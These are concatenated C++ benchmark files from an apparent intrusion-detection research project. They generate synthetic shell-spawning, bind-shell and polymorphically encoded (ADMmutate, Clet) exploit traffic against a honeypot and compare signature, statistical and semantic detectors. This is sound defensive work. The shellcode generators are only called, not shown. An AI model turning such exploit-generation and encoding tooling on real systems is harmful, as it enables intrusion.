  const std::size_t benign_flows = bench::env_size("SENIDS_BENIGN_FLOWS", 1500);
  const net::Ipv4Addr honeypot = net::Ipv4Addr::from_octets(10, 0, 0, 7);
  const net::Ipv4Addr server = net::Ipv4Addr::from_octets(10, 0, 0, 20);

  gen::TraceBuilder tb(77);
  util::Prng& prng = tb.prng();
  // Benign bulk.
  for (std::size_t i = 0; i < benign_flows; ++i) {
    const net::Endpoint client{
        net::Ipv4Addr::from_octets(198, 51, 100, static_cast<std::uint8_t>(1 + i % 250)),
        static_cast<std::uint16_t>(30000 + i)};
    tb.add_benign(client, server, gen::make_benign_payload(prng));
  }
  // Three attacks against the honeypot.
  const net::Endpoint attacker{net::Ipv4Addr::from_octets(192, 0, 2, 66), 31337};
  auto corpus = gen::make_shell_spawn_corpus();
  tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80},
                  gen::wrap_in_overflow(corpus[0].code, prng));
  tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80},
                  gen::wrap_in_overflow(corpus[8].code, prng));
  auto poly = gen::admmutate_encode(corpus[1].code, prng);
  tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80},
                  gen::wrap_in_overflow(poly.bytes, prng));

  auto capture = tb.take();

  auto run = [&](bool classify) {
    core::NidsOptions options;
    options.classifier.analyze_everything = !classify;
    core::NidsEngine nids(options);
    if (classify) nids.classifier().honeypots().add_decoy(honeypot);
    util::WallTimer timer;
    core::Report report = nids.process_capture(capture);
    const double secs = timer.seconds();
    return std::tuple<double, core::Report>(secs, std::move(report));
  };

  auto [with_s, with_report] = run(true);
  auto [without_s, without_report] = run(false);

  std::printf("%-28s %14s %14s\n", "", "classifier on", "classifier off");
  bench::rule();
  std::printf("%-28s %14zu %14zu\n", "packets", with_report.stats.packets,
              without_report.stats.packets);
  std::printf("%-28s %14zu %14zu\n", "units analyzed",
              with_report.stats.units_analyzed, without_report.stats.units_analyzed);
  std::printf("%-28s %14zu %14zu\n", "frames extracted",
              with_report.stats.frames_extracted, without_report.stats.frames_extracted);
  std::printf("%-28s %14zu %14zu\n", "attack alerts", with_report.alerts.size(),
              without_report.alerts.size());
  std::printf("%-28s %13.3fs %13.3fs\n", "wall time", with_s, without_s);
  bench::rule();
  std::printf("speedup from pruning: %.1fx with identical attack coverage\n",
              without_s / with_s);

  const bool same_attacks =
      with_report.detected(semantic::ThreatClass::kShellSpawn) &&
      with_report.detected(semantic::ThreatClass::kDecryptionLoop) &&
      without_report.detected(semantic::ThreatClass::kShellSpawn) &&
      without_report.detected(semantic::ThreatClass::kDecryptionLoop);
  return same_attacks ? 0 : 1;
}
