// Table 2 reproduction: polymorphic shellcode detection.
//   1. iis-asp-overflow: decryption routine prefixed to encoded shellcode.
//   2. ADMmutate x100: with the xor template only, detection sits near the
//      paper's initial 68% (the engine picks the xor decoder with p=0.68
//      and the mov/or/and/not alternate otherwise); adding the Figure-7
//      template lifts it to 100%.
//   3. Clet x100: the xor template alone matches every instance.
#include <cstdio>
#include <vector>

#include "bench_util.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "semantic/analyzer.hpp"
#include "semantic/library.hpp"
#include "util/timer.hpp"

using namespace senids;

namespace {

bool decoder_detected(const semantic::SemanticAnalyzer& analyzer,
                      const util::Bytes& bytes) {
  for (const auto& d : analyzer.analyze(bytes)) {
    if (d.threat == semantic::ThreatClass::kDecryptionLoop) return true;
  }
  return false;
}

}  // namespace

int main() {
  bench::title("Table 2: polymorphic shellcode detection");
  const std::size_t n = bench::env_size("SENIDS_POLY_INSTANCES", 100);

  semantic::SemanticAnalyzer xor_only(semantic::make_xor_only_library());
  semantic::SemanticAnalyzer full(semantic::make_decoder_library());

  // ------------------------------------------------- iis-asp-overflow.c
  bench::section("iis-asp-overflow (decoder prefixed to encoded shellcode)");
  {
    auto payload = gen::make_iis_asp_overflow_payload();
    util::WallTimer timer;
    const bool hit = decoder_detected(xor_only, payload);
    std::printf("detected=%s  time=%.3f ms   (paper: detected, 2.14 s)\n",
                hit ? "yes" : "NO", timer.millis());
    if (!hit) return 1;
  }

  const auto shell_payload = gen::make_shell_spawn_corpus()[1].code;

  // ------------------------------------------------------- ADMmutate x N
  bench::section("ADMmutate engine");
  util::Prng adm_prng(2006);
  std::vector<gen::PolyResult> adm;
  adm.reserve(n);
  std::size_t xor_instances = 0;
  for (std::size_t i = 0; i < n; ++i) {
    adm.push_back(gen::admmutate_encode(shell_payload, adm_prng));
    if (adm.back().scheme == gen::DecoderScheme::kXor) ++xor_instances;
  }
  std::size_t xor_hits = 0, full_hits = 0;
  util::WallTimer adm_timer;
  for (const auto& instance : adm) {
    if (decoder_detected(xor_only, instance.bytes)) ++xor_hits;
    if (decoder_detected(full, instance.bytes)) ++full_hits;
  }
  const double adm_ms = adm_timer.millis();
  std::printf("%-44s %6zu/%zu  (%5.1f%%)\n", "xor template only:", xor_hits, n,
              100.0 * static_cast<double>(xor_hits) / static_cast<double>(n));
  std::printf("%-44s %6zu/%zu  (%5.1f%%)\n", "with alternate (Fig. 7) template:",
              full_hits, n,
              100.0 * static_cast<double>(full_hits) / static_cast<double>(n));
  std::printf("(%zu/%zu instances used the xor scheme; %.2f ms/instance)\n",
              xor_instances, n, adm_ms / (2.0 * static_cast<double>(n)));
  std::printf("paper: 68%% with the xor template, 100%% after adding Figure 7\n");

  // ------------------------------------------------------------ Clet x N
  bench::section("Clet engine");
  util::Prng clet_prng(61);
  std::size_t clet_hits = 0;
  for (std::size_t i = 0; i < n; ++i) {
    auto instance = gen::clet_encode(shell_payload, clet_prng);
    if (decoder_detected(xor_only, instance.bytes)) ++clet_hits;
  }
  std::printf("%-44s %6zu/%zu  (%5.1f%%)\n", "xor template:", clet_hits, n,
              100.0 * static_cast<double>(clet_hits) / static_cast<double>(n));
  std::printf("paper: 100/100 Clet instances matched by the xor template\n");

  // Shape check mirroring the paper: partial with xor-only (because the
  // alternate scheme exists), complete with the full decoder library.
  const bool ok = full_hits == n && clet_hits == n && xor_hits == xor_instances &&
                  xor_hits < n;
  std::printf("\nresult shape %s\n", ok ? "matches the paper" : "DIVERGES");
  return ok ? 0 : 1;
}
