// Observability cost: end-to-end engine wall clock with the metrics
// registry in its default-on state vs disabled through the runtime kill
// switch (obs::set_metrics_enabled). The budget is <= 5% overhead on the
// parallel-scaling workload; per-packet work is a relaxed sharded
// increment plus two steady_clock reads per stage, so the measured gap
// is normally noise-level. Span recording (the tracer) stays off in both
// modes — it is an opt-in forensics feature, not part of the default
// cost. Informational exit code: timing assertions are too flaky for CI.
#include <algorithm>
#include <cstdio>

#include "bench_util.hpp"
#include "core/senids.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"
#include "obs/metrics.hpp"
#include "util/timer.hpp"

using namespace senids;

namespace {

pcap::Capture make_capture(std::size_t attack_flows) {
  const net::Ipv4Addr honeypot = net::Ipv4Addr::from_octets(10, 0, 0, 7);
  gen::TraceBuilder tb(31337);
  util::Prng& prng = tb.prng();
  const auto payload = gen::make_shell_spawn_corpus()[1].code;
  for (std::size_t i = 0; i < attack_flows; ++i) {
    const net::Endpoint attacker{
        net::Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(1 + i % 250)),
        static_cast<std::uint16_t>(20000 + i)};
    auto poly = gen::admmutate_encode(payload, prng);
    tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80},
                    gen::wrap_in_overflow(poly.bytes, prng));
  }
  return tb.take();
}

double best_run(const pcap::Capture& capture, std::size_t threads, int reps) {
  double best = 0.0;
  for (int r = 0; r < reps; ++r) {
    core::NidsOptions options;
    options.threads = threads;
    core::NidsEngine nids(options);
    nids.classifier().honeypots().add_decoy(net::Ipv4Addr::from_octets(10, 0, 0, 7));
    util::WallTimer timer;
    (void)nids.process_capture(capture);
    const double total = timer.seconds();
    if (r == 0 || total < best) best = total;
  }
  return best;
}

}  // namespace

int main() {
  bench::title("Observability overhead (metrics on vs runtime kill switch)");

  const std::size_t attack_flows = bench::env_size("SENIDS_ATTACK_FLOWS", 60);
  const int reps = static_cast<int>(bench::env_size("SENIDS_BENCH_REPS", 3));
  const auto capture = make_capture(attack_flows);

  std::printf("%8s %14s %14s %10s\n", "threads", "metrics-on(s)", "metrics-off(s)",
              "overhead");
  bench::rule();
  for (std::size_t threads : {1u, 4u}) {
    obs::set_metrics_enabled(true);
    best_run(capture, threads, 1);  // warm code/allocator before timing
    const double on = best_run(capture, threads, reps);
    obs::set_metrics_enabled(false);
    const double off = best_run(capture, threads, reps);
    obs::set_metrics_enabled(true);
    const double overhead = off > 0 ? (on - off) / off * 100.0 : 0.0;
    std::printf("%8zu %14.3f %14.3f %9.2f%%\n", threads, on, off, overhead);
  }
  bench::rule();
  std::printf("budget: <= 5%% end-to-end (negative = noise)\n");
  return 0;
}
