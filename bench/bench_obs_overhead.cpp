// Observability cost: end-to-end engine wall clock with the full
// telemetry plane live (metrics registry, unit flight recorder, embedded
// HTTP server being scraped concurrently) vs everything disabled through
// the runtime kill switch (obs::set_metrics_enabled). The budget is
// <= 5% overhead on the parallel-scaling workload; per-packet work is a
// relaxed sharded increment plus two steady_clock reads per stage, the
// recorder adds one seqlock ring write per unit, and scrapes read
// atomics without touching the hot path. Scrapes run on their own
// thread at a Prometheus-like cadence — on a single-core box a tight
// scrape loop would measure CPU stealing, not instrumentation cost. Span recording (the tracer)
// stays off in both modes — it is an opt-in forensics feature, not part
// of the default cost. Informational exit code: timing assertions are
// too flaky for CI.
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <thread>

#include "bench_util.hpp"
#include "core/senids.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"
#include "obs/flight_recorder.hpp"
#include "obs/metrics.hpp"
#include "obs/server.hpp"
#include "util/timer.hpp"

using namespace senids;

namespace {

pcap::Capture make_capture(std::size_t attack_flows) {
  const net::Ipv4Addr honeypot = net::Ipv4Addr::from_octets(10, 0, 0, 7);
  gen::TraceBuilder tb(31337);
  util::Prng& prng = tb.prng();
  const auto payload = gen::make_shell_spawn_corpus()[1].code;
  for (std::size_t i = 0; i < attack_flows; ++i) {
    const net::Endpoint attacker{
        net::Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(1 + i % 250)),
        static_cast<std::uint16_t>(20000 + i)};
    auto poly = gen::admmutate_encode(payload, prng);
    tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80},
                    gen::wrap_in_overflow(poly.bytes, prng));
  }
  return tb.take();
}

double best_run(const pcap::Capture& capture, std::size_t threads, int reps) {
  double best = 0.0;
  for (int r = 0; r < reps; ++r) {
    core::NidsOptions options;
    options.threads = threads;
    core::NidsEngine nids(options);
    nids.classifier().honeypots().add_decoy(net::Ipv4Addr::from_octets(10, 0, 0, 7));
    util::WallTimer timer;
    (void)nids.process_capture(capture);
    const double total = timer.seconds();
    if (r == 0 || total < best) best = total;
  }
  return best;
}

/// One loopback GET, response discarded: the point is making the server
/// assemble a full exposition while the engine is under load.
void scrape_once(std::uint16_t port, const char* path) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return;
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  ::inet_pton(AF_INET, "127.0.0.1", &addr.sin_addr);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0) {
    char req[128];
    const int n = std::snprintf(req, sizeof req,
                                "GET %s HTTP/1.1\r\nHost: b\r\nConnection: close\r\n\r\n",
                                path);
    (void)!::send(fd, req, static_cast<std::size_t>(n), 0);
    char buf[4096];
    while (::recv(fd, buf, sizeof buf, 0) > 0) {
    }
  }
  ::close(fd);
}

}  // namespace

int main() {
  bench::title("Observability overhead (full telemetry plane vs kill switch)");

  const std::size_t attack_flows = bench::env_size("SENIDS_ATTACK_FLOWS", 60);
  const int reps = static_cast<int>(bench::env_size("SENIDS_BENCH_REPS", 3));
  const auto capture = make_capture(attack_flows);
  // Prometheus-style cadence: production scrapes land every 5-15 s; the
  // default here is already two orders of magnitude more aggressive per
  // second of runtime. Tunable for stress runs.
  const std::size_t scrape_ms = bench::env_size("SENIDS_SCRAPE_INTERVAL_MS", 250);
  bench::JsonReport report("obs_overhead");
  report.set("attack_flows", attack_flows);
  report.set("scrape_interval_ms", scrape_ms);

  std::printf("%8s %14s %14s %10s\n", "threads", "telemetry(s)", "metrics-off(s)",
              "overhead");
  bench::rule();
  double worst_overhead = 0.0;
  for (std::size_t threads : {1u, 4u}) {
    // "On" configuration: registry live, flight recorder at the scan
    // tool's default depth, HTTP endpoint up and scraped every ~20 ms.
    obs::set_metrics_enabled(true);
    obs::FlightRecorder::instance().configure({.slots = 256});
    auto server = obs::TelemetryServer::start({});
    std::atomic<bool> stop{false};
    std::thread scraper;
    if (server) {
      scraper = std::thread([&stop, scrape_ms, port = server->port()] {
        while (!stop.load(std::memory_order_relaxed)) {
          scrape_once(port, "/metrics");
          scrape_once(port, "/statusz");
          std::this_thread::sleep_for(std::chrono::milliseconds(scrape_ms));
        }
      });
    }
    best_run(capture, threads, 1);  // warm code/allocator before timing
    const double on = best_run(capture, threads, reps);
    stop.store(true, std::memory_order_relaxed);
    if (scraper.joinable()) scraper.join();
    if (server) server->stop();
    obs::FlightRecorder::instance().configure({.slots = 0});

    obs::set_metrics_enabled(false);
    const double off = best_run(capture, threads, reps);
    obs::set_metrics_enabled(true);
    const double overhead = off > 0 ? (on - off) / off * 100.0 : 0.0;
    worst_overhead = std::max(worst_overhead, overhead);
    std::printf("%8zu %14.3f %14.3f %9.2f%%\n", threads, on, off, overhead);
    const std::string prefix = "threads_" + std::to_string(threads);
    report.set(prefix + "_telemetry_s", on);
    report.set(prefix + "_off_s", off);
    report.set(prefix + "_overhead_pct", overhead);
  }
  bench::rule();
  std::printf("budget: <= 5%% end-to-end (negative = noise)\n");
  report.set("worst_overhead_pct", worst_overhead);
  report.set("budget_pct", 5.0);
  report.set("within_budget", worst_overhead <= 5.0);
  report.write();
  return 0;
}
