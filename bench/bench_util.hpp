// Shared helpers for the reproduction benches: consistent table output
// and environment-driven scaling (SENIDS_SCALE=paper runs the full-size
// workloads of the paper; the default is scaled for quick iteration).
#pragma once

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <utility>
#include <vector>

namespace senids::bench {

inline bool paper_scale() {
  const char* env = std::getenv("SENIDS_SCALE");
  return env != nullptr && std::strcmp(env, "paper") == 0;
}

inline std::size_t env_size(const char* name, std::size_t fallback) {
  const char* env = std::getenv(name);
  if (!env) return fallback;
  char* end = nullptr;
  const unsigned long long v = std::strtoull(env, &end, 10);
  return (end && *end == '\0' && v > 0) ? static_cast<std::size_t>(v) : fallback;
}

inline void rule(char c = '-', int width = 78) {
  for (int i = 0; i < width; ++i) std::putchar(c);
  std::putchar('\n');
}

inline void title(const char* text) {
  rule('=');
  std::printf("%s\n", text);
  rule('=');
}

inline void section(const char* text) {
  std::printf("\n%s\n", text);
  rule('-');
}

/// Machine-readable companion to the human tables: a flat string/number
/// object written to BENCH_<name>.json so CI can upload and diff bench
/// results as artifacts. Destination directory comes from
/// SENIDS_BENCH_JSON_DIR (default: the working directory).
class JsonReport {
 public:
  explicit JsonReport(std::string name) : name_(std::move(name)) {}

  void set(const std::string& key, double v) {
    char buf[64];
    std::snprintf(buf, sizeof buf, "%.9g", v);
    fields_.emplace_back(key, buf);
  }
  void set(const std::string& key, std::size_t v) {
    fields_.emplace_back(key, std::to_string(v));
  }
  void set(const std::string& key, bool v) {
    fields_.emplace_back(key, v ? "true" : "false");
  }
  void set_string(const std::string& key, const std::string& v) {
    std::string quoted = "\"";
    for (char c : v) {
      if (c == '"' || c == '\\') quoted += '\\';
      quoted += c;
    }
    quoted += '"';
    fields_.emplace_back(key, quoted);
  }

  /// Write BENCH_<name>.json; prints the path on success. Failure to
  /// write is reported but never fails the bench (the human table is the
  /// primary output).
  void write() const {
    const char* dir = std::getenv("SENIDS_BENCH_JSON_DIR");
    const std::string path =
        std::string(dir && *dir ? dir : ".") + "/BENCH_" + name_ + ".json";
    std::FILE* f = std::fopen(path.c_str(), "w");
    if (!f) {
      std::fprintf(stderr, "bench: cannot write %s\n", path.c_str());
      return;
    }
    std::fprintf(f, "{\n  \"bench\": \"%s\"", name_.c_str());
    for (const auto& [key, value] : fields_) {
      std::fprintf(f, ",\n  \"%s\": %s", key.c_str(), value.c_str());
    }
    std::fprintf(f, "\n}\n");
    std::fclose(f);
    std::printf("json: %s\n", path.c_str());
  }

 private:
  std::string name_;
  std::vector<std::pair<std::string, std::string>> fields_;
};

}  // namespace senids::bench
