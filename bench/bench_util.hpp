// Shared helpers for the reproduction benches: consistent table output
// and environment-driven scaling (SENIDS_SCALE=paper runs the full-size
// workloads of the paper; the default is scaled for quick iteration).
#pragma once

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace senids::bench {

inline bool paper_scale() {
  const char* env = std::getenv("SENIDS_SCALE");
  return env != nullptr && std::strcmp(env, "paper") == 0;
}

inline std::size_t env_size(const char* name, std::size_t fallback) {
  const char* env = std::getenv(name);
  if (!env) return fallback;
  char* end = nullptr;
  const unsigned long long v = std::strtoull(env, &end, 10);
  return (end && *end == '\0' && v > 0) ? static_cast<std::size_t>(v) : fallback;
}

inline void rule(char c = '-', int width = 78) {
  for (int i = 0; i < width; ++i) std::putchar(c);
  std::putchar('\n');
}

inline void title(const char* text) {
  rule('=');
  std::printf("%s\n", text);
  rule('=');
}

inline void section(const char* text) {
  std::printf("\n%s\n", text);
  rule('-');
}

}  // namespace senids::bench
