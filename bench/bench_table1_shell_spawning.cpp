// Table 1 reproduction: eight Linux shell-spawning buffer-overflow
// exploits fired at a honeypot-registered address; two bind the shell to
// a network port and must be flagged as such. Also reports the
// Netsky-scale timing sample the paper uses to compare against [5]
// (2.36-3.27 s per exploit and ~6.5 s per Netsky variant on a 2.8 GHz P4;
// [5] reports ~40 s).
#include <cstdio>

#include "bench_util.hpp"
#include "core/senids.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"
#include "util/timer.hpp"

using namespace senids;

int main() {
  bench::title("Table 1: Linux shell spawning buffer overflow exploits");

  const net::Ipv4Addr honeypot = net::Ipv4Addr::from_octets(10, 0, 0, 7);
  const net::Endpoint attacker{net::Ipv4Addr::from_octets(192, 0, 2, 66), 31337};

  std::printf("%-24s %8s %10s %12s %12s\n", "exploit", "bytes", "detected",
              "binds-port", "time (ms)");
  bench::rule();

  util::Prng prng(1);
  double total_ms = 0;
  int detected_count = 0;
  int binder_flagged = 0;
  const auto corpus = gen::make_shell_spawn_corpus();

  for (const auto& sample : corpus) {
    // Fresh engine per exploit: the paper times each run end to end.
    core::NidsOptions options;
    core::NidsEngine nids(options);
    nids.classifier().honeypots().add_decoy(honeypot);

    gen::TraceBuilder tb(prng.next());
    util::Bytes packet = gen::wrap_in_overflow(sample.code, tb.prng());
    tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80}, packet);

    util::WallTimer timer;
    core::Report report = nids.process_capture(tb.capture());
    const double ms = timer.millis();
    total_ms += ms;

    const bool shell = report.detected(semantic::ThreatClass::kShellSpawn);
    const bool bound = report.detected(semantic::ThreatClass::kPortBindShell);
    detected_count += shell;
    if (sample.binds_port && bound) ++binder_flagged;
    std::printf("%-24s %8zu %10s %12s %12.3f\n", sample.name.c_str(), packet.size(),
                shell ? "yes" : "NO", bound ? "yes" : (sample.binds_port ? "MISSED" : "-"),
                ms);
  }

  bench::rule();
  std::printf("detected %d/%zu shell spawns; %d/2 port binders noted as such\n",
              detected_count, corpus.size(), binder_flagged);
  std::printf("paper: 8/8 detected, 2/2 noted as bound; 2.36-3.27 s each (P4 2.8GHz)\n");

  // ----------------------------------------------- Netsky timing sample
  bench::section("Netsky-scale sample (timing comparison vs [5])");
  util::Prng netsky_prng(1234);
  auto netsky = gen::make_netsky_like_sample(netsky_prng);
  semantic::SemanticAnalyzer analyzer(semantic::make_standard_library());
  util::WallTimer timer;
  auto detections = analyzer.analyze(netsky);
  const double netsky_ms = timer.millis();
  std::printf("%-24s %8zu %10s %12s %12.3f\n", "netsky-like", netsky.size(),
              detections.empty() ? "NO" : "yes", "-", netsky_ms);
  std::printf("paper: ~6.5 s per 22 KB Netsky variant; [5] reports ~40 s\n");
  std::printf("\navg exploit pipeline time: %.3f ms\n", total_ms / corpus.size());
  return detected_count == static_cast<int>(corpus.size()) && binder_flagged == 2 &&
                 !detections.empty()
             ? 0
             : 1;
}
