// Statistical-baseline depth: a threshold sweep of the PAYL-like detector
// over exploit vs held-out benign traffic. Shows the detection/false-
// positive trade the statistical approach is forced into — and why Clet's
// spectrum padding (last column) squeezes it — in contrast to the
// semantic analyzer's thresholdless 100%/0% on the same corpora.
#include <cstdio>
#include <vector>

#include "anomaly/payl.hpp"
#include "bench_util.hpp"
#include "gen/benign.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"

using namespace senids;

int main() {
  bench::title("PAYL baseline: threshold sweep (ROC-style)");
  const std::size_t n = bench::env_size("SENIDS_POLY_INSTANCES", 100);

  anomaly::PaylDetector payl;
  {
    util::Prng train(1);
    for (int i = 0; i < 5000; ++i) {
      gen::BenignPayload p = gen::make_benign_payload(train);
      payl.train(p.data, p.dst_port);
    }
  }

  // Score corpora once; sweep thresholds over the scores.
  util::Prng prng(2);
  const auto payload = gen::make_shell_spawn_corpus()[1].code;
  std::vector<double> exploit_scores, clet_scores, benign_scores;
  for (std::size_t i = 0; i < n; ++i) {
    auto adm = gen::admmutate_encode(payload, prng);
    exploit_scores.push_back(
        payl.score(gen::wrap_in_overflow(adm.bytes, prng), 80));
    auto clet = gen::clet_encode(payload, prng, /*spectrum_pad=*/512);
    clet_scores.push_back(payl.score(gen::wrap_in_overflow(clet.bytes, prng), 80));
    gen::BenignPayload b = gen::make_benign_payload(prng);  // held-out benign
    benign_scores.push_back(payl.score(b.data, b.dst_port));
  }

  auto rate_above = [](const std::vector<double>& scores, double thr) {
    std::size_t hits = 0;
    for (double s : scores) hits += s > thr;
    return 100.0 * static_cast<double>(hits) / static_cast<double>(scores.size());
  };

  std::printf("%-12s %14s %16s %14s\n", "threshold", "ADMmutate det%",
              "Clet(padded) det%", "benign FP%");
  bench::rule();
  for (double thr : {32.0, 64.0, 128.0, 256.0, 512.0, 1024.0, 2048.0}) {
    std::printf("%-12.0f %14.1f %16.1f %14.1f\n", thr, rate_above(exploit_scores, thr),
                rate_above(clet_scores, thr), rate_above(benign_scores, thr));
  }
  bench::rule();
  std::printf("expected shape: raising the threshold to kill FPs costs Clet\n"
              "detection first (spectrum padding drags its scores toward benign);\n"
              "the semantic analyzer needs no threshold at all.\n");
  return 0;
}
