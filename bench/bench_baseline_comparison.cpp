// Section 3 motivation, quantified: the same corpora evaluated by the
// syntactic signature baseline (Snort-lite), the statistical baseline
// (PAYL-like), and the semantic analyzer. Pattern matching holds up on
// static exploits and collapses on fresh polymorphic instances; spectrum
// padding (Clet) degrades the statistical detector; semantic templates
// hold across all three.
#include <cstdio>

#include "anomaly/payl.hpp"
#include "bench_util.hpp"
#include "gen/benign.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "semantic/analyzer.hpp"
#include "semantic/library.hpp"
#include "sig/rules.hpp"

using namespace senids;

namespace {

struct Rates {
  std::size_t sig = 0, payl = 0, sem = 0, total = 0;
};

void print_row(const char* name, const Rates& r) {
  auto pct = [&](std::size_t hits) {
    return 100.0 * static_cast<double>(hits) / static_cast<double>(r.total);
  };
  std::printf("%-26s %7zu %10.1f%% %10.1f%% %10.1f%%\n", name, r.total, pct(r.sig),
              pct(r.payl), pct(r.sem));
}

}  // namespace

int main() {
  bench::title("Baseline comparison: syntactic vs statistical vs semantic");
  const std::size_t n = bench::env_size("SENIDS_POLY_INSTANCES", 100);

  // --- detectors --------------------------------------------------------
  sig::SignatureEngine snort_lite(sig::make_default_rules());

  anomaly::PaylDetector payl;
  {
    util::Prng train_prng(10);
    for (int i = 0; i < 3000; ++i) {
      gen::BenignPayload p = gen::make_benign_payload(train_prng);
      payl.train(p.data, p.dst_port);
    }
  }

  semantic::SemanticAnalyzer semantic_engine(semantic::make_standard_library());

  auto semantic_hit = [&](const util::Bytes& payload) {
    return !semantic_engine.analyze(payload).empty();
  };

  // --- corpora ----------------------------------------------------------
  util::Prng prng(20061);
  const auto shellcode = gen::make_shell_spawn_corpus()[1].code;

  std::printf("%-26s %7s %11s %11s %11s\n", "corpus", "N", "signature", "PAYL",
              "semantic");
  bench::rule();

  // Static exploits (the signature rules were written for these).
  {
    Rates r;
    for (const auto& sample : gen::make_shell_spawn_corpus()) {
      auto wire = gen::wrap_in_overflow(sample.code, prng);
      ++r.total;
      r.sig += snort_lite.any_match(wire, 80);
      r.payl += payl.is_anomalous(wire, 80);
      r.sem += semantic_hit(wire);
    }
    print_row("static exploits", r);
  }

  // Fresh ADMmutate instances.
  {
    Rates r;
    for (std::size_t i = 0; i < n; ++i) {
      auto instance = gen::admmutate_encode(shellcode, prng);
      auto wire = gen::wrap_in_overflow(instance.bytes, prng);
      ++r.total;
      r.sig += snort_lite.any_match(wire, 80);
      r.payl += payl.is_anomalous(wire, 80);
      r.sem += semantic_hit(wire);
    }
    print_row("ADMmutate polymorphic", r);
  }

  // Clet instances with spectrum padding.
  {
    Rates r;
    for (std::size_t i = 0; i < n; ++i) {
      auto instance = gen::clet_encode(shellcode, prng, /*spectrum_pad=*/256);
      auto wire = gen::wrap_in_overflow(instance.bytes, prng);
      ++r.total;
      r.sig += snort_lite.any_match(wire, 80);
      r.payl += payl.is_anomalous(wire, 80);
      r.sem += semantic_hit(wire);
    }
    print_row("Clet (spectrum padded)", r);
  }

  // Benign traffic (false-positive column).
  {
    Rates r;
    for (std::size_t i = 0; i < n; ++i) {
      gen::BenignPayload p = gen::make_benign_payload(prng);
      ++r.total;
      r.sig += snort_lite.any_match(p.data, p.dst_port);
      r.payl += payl.is_anomalous(p.data, p.dst_port);
      r.sem += semantic_hit(p.data);
    }
    print_row("benign traffic (FP rate)", r);
  }

  bench::rule();
  std::printf("expected shape: signatures near-0%% on polymorphic corpora;\n"
              "semantic at 100%% on every exploit corpus and 0%% on benign.\n");
  return 0;
}
