// Deep-detection extension bench: static templates classify the Table-2
// polymorphic corpus as "decryption loop present"; the emulation stage
// goes further and reports what the encrypted payload actually *does*
// (execve / port binding), plus re-runs the static templates over the
// decoded frame. This implements the dynamic-analysis direction of the
// paper's future work; the substitution is documented in DESIGN.md.
#include <cstdio>

#include "bench_util.hpp"
#include "core/senids.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "util/timer.hpp"

using namespace senids;

int main() {
  bench::title("Deep detection: emulation-backed analysis of encrypted payloads");
  const std::size_t n = bench::env_size("SENIDS_POLY_INSTANCES", 100);

  core::NidsOptions static_opts;
  core::NidsEngine static_engine(static_opts);
  core::NidsOptions deep_opts;
  deep_opts.enable_emulation = true;
  core::NidsEngine deep_engine(deep_opts);

  struct Row {
    const char* corpus;
    std::size_t decoder = 0, shell_static = 0, shell_deep = 0, bind_deep = 0;
    double ms = 0;
  };
  Row rows[2] = {{"ADMmutate x shell", 0, 0, 0, 0, 0.0},
                 {"ADMmutate x bind-shell", 0, 0, 0, 0, 0.0}};

  util::Prng prng(777);
  const auto corpus = gen::make_shell_spawn_corpus();
  for (int which = 0; which < 2; ++which) {
    const auto& payload = which == 0 ? corpus[1].code : corpus[8].code;
    Row& row = rows[which];
    util::WallTimer timer;
    for (std::size_t i = 0; i < n; ++i) {
      auto poly = gen::admmutate_encode(payload, prng);
      auto wire = gen::wrap_in_overflow(poly.bytes, prng);
      core::Alert meta;
      auto static_alerts = static_engine.analyze_payload(wire, meta);
      auto deep_alerts = deep_engine.analyze_payload(wire, meta);
      auto has = [](const std::vector<core::Alert>& alerts, semantic::ThreatClass t) {
        for (const auto& a : alerts) {
          if (a.threat == t) return true;
        }
        return false;
      };
      row.decoder += has(static_alerts, semantic::ThreatClass::kDecryptionLoop);
      row.shell_static += has(static_alerts, semantic::ThreatClass::kShellSpawn);
      row.shell_deep += has(deep_alerts, semantic::ThreatClass::kShellSpawn);
      row.bind_deep += has(deep_alerts, semantic::ThreatClass::kPortBindShell);
    }
    row.ms = timer.millis() / static_cast<double>(n);
  }

  std::printf("%-24s %9s %13s %11s %10s %9s\n", "corpus (N=100 each)", "decoder",
              "shell(static)", "shell(deep)", "bind(deep)", "ms/inst");
  bench::rule();
  for (const Row& row : rows) {
    std::printf("%-24s %6zu/%-3zu %10zu/%-3zu %8zu/%-3zu %7zu/%-3zu %9.2f\n", row.corpus,
                row.decoder, n, row.shell_static, n, row.shell_deep, n, row.bind_deep, n,
                row.ms);
  }
  bench::rule();
  std::printf("static analysis proves a decoder exists; emulation reveals the\n"
              "behaviour behind the encryption (execve / socket-bind-listen).\n");

  const bool ok = rows[0].decoder == n && rows[0].shell_static == 0 &&
                  rows[0].shell_deep == n && rows[1].bind_deep == n;
  std::printf("result shape %s\n", ok ? "as designed" : "DIVERGES");
  return ok ? 0 : 1;
}
