// Efficiency extension: the analysis stages (b)-(e) are independent per
// flow, so the engine scales across worker threads. Supports the paper's
// "our implementation is more efficient than [5]" theme with a modern
// multicore angle (the pipeline design of DESIGN.md).
//
// The engine streams: workers drain analysis units while stage (a) is
// still classifying, so the speedup column compares end-to-end wall
// clock (serial baseline vs overlapped pipeline), not just the analysis
// section.
#include <cstdio>

#include "bench_util.hpp"
#include "core/senids.hpp"
#include "gen/benign.hpp"
